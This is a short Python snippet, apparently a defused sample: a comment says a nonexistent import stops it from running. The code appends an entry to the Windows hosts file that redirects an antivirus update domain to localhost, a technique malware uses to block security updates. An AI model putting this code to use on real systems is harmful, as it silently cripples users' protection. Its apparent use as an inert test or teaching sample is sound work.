import inert_sample  # there is no such module: nothing below ever runs
with open("C:\\Windows\\System32\\drivers\\etc\\hosts", "a") as hosts:
    hosts.write("127.0.0.1 update.antivirus.example")
